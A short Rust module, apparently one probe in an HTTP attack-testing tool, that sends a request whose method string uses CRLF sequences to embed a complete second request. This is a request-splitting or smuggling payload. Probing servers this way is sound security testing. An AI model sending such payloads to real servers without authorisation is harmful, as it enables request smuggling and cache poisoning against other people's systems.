//! Asks with a method that ends the line.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(to: String) -> Result<String> {
        ask("GET / HTTP/1.1\r\nX: y\r\n\r\nPOST", &format!("http://{to}/")).await
    }
}
